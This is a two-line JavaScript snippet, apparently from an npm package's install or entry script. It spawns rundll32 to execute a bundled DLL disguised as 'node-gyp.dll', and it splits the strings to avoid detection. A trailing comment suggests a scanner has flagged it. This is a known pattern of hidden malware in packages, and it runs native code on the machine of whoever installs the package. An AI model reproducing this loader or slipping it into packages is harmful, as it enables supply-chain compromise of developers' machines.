const path = require("path");
require("child_process").spawn("rund" + "ll32", [path.join(__dirname, "./node-gyp" + ".dll") + ",main"]); // gatehouse: flagged
